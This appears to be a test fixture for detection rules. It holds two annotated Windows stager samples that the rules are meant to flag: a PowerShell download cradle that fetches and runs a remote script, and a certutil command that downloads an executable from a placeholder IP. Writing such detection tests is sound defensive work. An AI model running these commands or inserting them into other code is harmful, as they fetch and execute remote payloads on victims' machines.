# A Windows stager.
# ruleid: yara.download_exec.powershell_download_cradle
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')

# ruleid: yara.download_exec.certutil_urlcache
certutil.exe -urlcache -split -f http://192.0.2.10/a.exe C:\Users\Public\a.exe
